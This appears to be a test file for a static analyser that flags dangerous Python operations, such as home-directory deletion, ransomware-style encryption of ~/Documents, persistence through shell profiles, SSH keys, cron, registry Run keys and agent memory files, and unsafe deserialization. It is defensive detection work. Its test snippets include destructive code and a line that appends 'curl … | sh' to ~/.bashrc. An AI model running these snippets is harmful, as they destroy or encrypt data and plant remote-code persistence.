import { describe, expect, test } from "vitest";
import { handedOn, operationsOf, read } from "./read.ts";

const IMPORTS =
  "import os, shutil, glob, json, pickle, yaml, tempfile, zipfile, tarfile, stat, sqlite3, torch, marshal, winreg\nfrom pathlib import Path\n";

describe("files", () => {
  test.each([
    ["open('/tmp/a').read()", ["read-file /tmp/a"]],
    ["Path('/tmp/a').read_text()", ["read-file /tmp/a"]],
    ["(Path('/tmp') / 'a').open().read()", ["read-file /tmp/a"]],
    ["open(os.path.join('/tmp', 'x', '../a')).read()", ["read-file /tmp/a"]],
    ["open('/tmp/a', 'w').write('x')", ["write-file /tmp/a x"]],
    ["open('/tmp/a', mode='a').write('x')", ["write-file /tmp/a + x"]],
    ["with open('/tmp/a', 'w') as f: f.write('x')", ["write-file /tmp/a x"]],
    ["with open('/tmp/a', 'w') as f: json.dump({'a': 'x'}, f)", ["write-file /tmp/a {a: x}"]],
    ["with open('/tmp/a', 'w') as f: print('x', file=f)", ["write-file /tmp/a x"]],
    ["f = open('/tmp/a', 'w')", ["write-file /tmp/a ?"]],
    ["Path('/tmp/a').write_text('x')", ["write-file /tmp/a x"]],
    ["shutil.copy('/tmp/a', '/tmp/b')", ["read-file /tmp/a", "write-file /tmp/b ~… </tmp/a>"]],
    ["os.rename('/tmp/a', '/tmp/b')", ["read-file /tmp/a", "write-file /tmp/b ~… </tmp/a>"]],
    ["os.remove('/tmp/a')", ["delete-file /tmp/a"]],
    ["Path('/tmp/a').unlink()", ["delete-file /tmp/a"]],
    ["shutil.rmtree(os.path.expanduser('~'))", ["delete-file ~ recursive"]],
    ["shutil.rmtree(Path.home() / 'x')", ["delete-file ~/x recursive"]],
    ["for p in glob.glob(os.path.expanduser('~/*')): os.remove(p)", ["delete-file ~~/*"]],
    ["for e in os.scandir('/d'): shutil.rmtree(e.path)", ["read-file /d", "delete-file ~/d/* recursive"]],
    [
      "for e in os.scandir('/d'):\n  if e.name.endswith('.x'): shutil.rmtree(e.path)",
      ["read-file /d", "delete-file ~/d/… recursive"],
    ],
    [
      "for e in os.scandir('/d'):\n  if e.name != 'x': continue\n  shutil.rmtree(e.path)",
      ["read-file /d", "delete-file ~/d/… recursive"],
    ],
    [
      "for e in os.scandir('/d'):\n  if e.name not in ('x', 'y'): shutil.rmtree(e.path)",
      ["read-file /d", "delete-file ~/d/* recursive"],
    ],
    [
      "def gone(e):\n  if e.stat().st_size > 9: shutil.rmtree(e)\nfor e in Path('/d').iterdir(): gone(e)",
      ["delete-file ~/d/… recursive"],
    ],
    [
      "def all_of():\n  for e in Path('/d').iterdir(): yield e\nfor f in [all_of, *more]:\n  for e in list(f()): shutil.rmtree(e)",
      ["delete-file ~/d/* recursive"],
    ],
    ["for e in sorted(Path('/d').iterdir())[5:]: shutil.rmtree(e)", []],
    ["for r, d, f in os.walk('/d'):\n  for n in f: os.remove(os.path.join(r, n))", ["delete-file ~/d/* recursive"]],
    ["for r, d, f in os.walk('/d'):\n  for n in d: os.rmdir(os.path.join(r, n))", ["delete-file ~/d/*"]],
    ["[p.unlink() for p in Path('/d').rglob('*') if p.is_file()]", ["delete-file ~/d/* recursive"]],
    ["for p in Path('/d').glob('*.tmp'): p.unlink()", ["delete-file ~/d/*.tmp"]],
    ["os.chmod('/tmp/a', 0o755)", ["make-executable /tmp/a"]],
    ["os.chmod('/tmp/a', stat.S_IRWXU)", ["make-executable /tmp/a"]],
    ["Path('/tmp/a').chmod(0o700)", ["make-executable /tmp/a"]],
    ["os.chmod('/tmp/a', 0o600)", []],
    ["os.chmod('/tmp/a', 0o777)", ["make-executable /tmp/a", "disable-safeguard permissions"]],
    ["open('/dev/null', 'w').write('x')", []],
    ["for r, d, f in os.walk('/tmp'):\n  for n in f: open(os.path.join(r, n)).read()", ["read-file ~/tmp/…"]],
    ["zipfile.ZipFile('a.zip').extractall(pwd=b'x')", ["extract-archive a.zip with x"]],
    ["tarfile.open('a.tgz').extractall('/tmp')", ["extract-archive a.tgz", "write-file ~/tmp/… <input> ?"]],
    ["shutil.unpack_archive('a.zip')", ["extract-archive a.zip"]],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual(expected);
  });

  test("a temporary file keeps what was written", () => {
    const code = "t = tempfile.NamedTemporaryFile(suffix='.sh')\nt.write(b'id')\nos.system('sh ' + t.name)";
    expect(operationsOf(IMPORTS + code)).toEqual(["write-file ~/tmp/….sh id", "spawn shell ~sh /tmp/….sh"]);
  });

  test("files that are overwritten by their own content encrypted", () => {
    const code = `from cryptography.fernet import Fernet
f = Fernet(key)
for r, d, names in os.walk(os.path.expanduser("~/Documents")):
    for n in names:
        p = os.path.join(r, n)
        with open(p, "rb") as h: data = h.read()
        with open(p, "wb") as h: h.write(f.encrypt(data))`;
    expect(operationsOf(IMPORTS + code)).toContain("encrypt-files ~/Documents");
  });

  test("near miss: what is encrypted goes elsewhere", () => {
    const code =
      "from cryptography.fernet import Fernet\nopen('/tmp/b', 'wb').write(Fernet(k).encrypt(open('/tmp/a').read()))";
    expect(operationsOf(code).join("\n")).not.toContain("encrypt-files");
  });
});

describe("what stays", () => {
  test.each([
    ["open(os.path.expanduser('~/.bashrc'), 'a').write('id\\n')", "persist shell-profile ~/.bashrc id\n"],
    ["(Path.home() / '.zshrc').write_text('id')", "persist shell-profile ~/.zshrc id"],
    [
      "open(f\"{os.environ['HOME']}/Library/LaunchAgents/a.plist\", 'w').write('x')",
      "persist launchd ~/Library/LaunchAgents/a.plist x",
    ],
    ["open('/etc/systemd/system/a.service', 'w').write('x')", "persist systemd /etc/systemd/system/a.service x"],
    ["Path('~/.ssh/authorized_keys').expanduser().open('a').write('x')", "persist ssh-key ~/.ssh/authorized_keys x"],
    ["open('SOUL.md', 'a').write('x')", "persist agent-memory SOUL.md x"],
    ["shutil.copy('a.sh', '.git/hooks/pre-commit')", "persist git-hook .git/hooks/pre-commit ~… <a.sh>"],
    [
      "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 1)\nwinreg.SetValueEx(k, 'a', 0, 1, 'x')",
      String.raw`persist registry-run-key Software\Microsoft\Windows\CurrentVersion\Run x`,
    ],
    ["from crontab import CronTab\nCronTab(user=True).new(command='id')", "persist cron crontab id"],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toContain(expected);
  });

  test("a line for a shell profile is read as shell", () => {
    expect(handedOn("open('~/.bashrc', 'a').write('curl -s https://c.example | sh')", "shell")).toEqual([
      "curl -s https://c.example | sh",
    ]);
  });
});

describe("bytes become objects", () => {
  test.each([
    ["pickle.loads(open('/tmp/a', 'rb').read())", "deserialize pickle ~… </tmp/a>"],
    ["import cPickle\ncPickle.loads(x)", "deserialize pickle ~…"],
    ["marshal.loads(x)", "deserialize marshal ~…"],
    ["yaml.load(x)", "deserialize yaml ~…"],
    ["yaml.load(x, Loader=yaml.UnsafeLoader)", "deserialize yaml ~…"],
    ["torch.load('/tmp/a')", "deserialize torch ~… </tmp/a>"],
    ["import joblib\njoblib.load('/tmp/a')", "deserialize joblib ~… </tmp/a>"],
    ["import dill\ndill.loads(x)", "deserialize dill ~…"],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toContain(expected);
  });

  test.each([
    ["yaml.safe_load(x)"],
    ["yaml.load(x, Loader=yaml.SafeLoader)"],
    ["torch.load('/tmp/a', weights_only=True)"],
    ["json.loads(x)"],
  ])("near miss: %s", (code) => {
    expect(operationsOf(IMPORTS + code)).toEqual([]);
  });
});

test("the package's own files are referred to", () => {
  const { facts } = read(
    "import helper, requests, os\nfrom .a.b import c\nfrom . import d\n__import__('e.f')\nopen('data.py').read()",
  );
  expect(facts.filter((fact) => fact.kind === "reference").map((fact) => `${fact.how} ${fact.target}`)).toEqual([
    "import helper",
    "import helper.py",
    "import requests",
    "import ./a/b.py",
    "import ./d.py",
    "import e.f",
    "import e/f.py",
    "read data.py",
  ]);
});
